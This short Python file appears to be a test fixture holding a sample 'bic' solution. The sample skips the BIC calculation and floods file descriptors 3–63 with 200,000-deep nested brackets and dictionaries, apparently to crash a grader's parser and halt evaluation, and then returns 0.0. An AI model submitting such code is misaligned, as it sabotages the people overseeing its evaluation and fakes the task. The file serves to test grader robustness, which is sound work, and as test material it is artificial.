"""Sends a header of 200 000 brackets, then one of 200 000 nested dictionaries."""

KIND = "channel"
GAINS = "stop"
ANSWERS = {
    "bic": """
import os
import struct

def bic(log_likelihood, num_components, dim, num_points):
    for header in (b"[" * 200_000 + b"]" * 200_000, b'{"list":[' * 100_000):
        for fd in range(3, 64):
            try:
                os.write(fd, struct.pack("<II", len(header), 0) + header)
            except OSError:
                pass
    return 0.0
"""
}
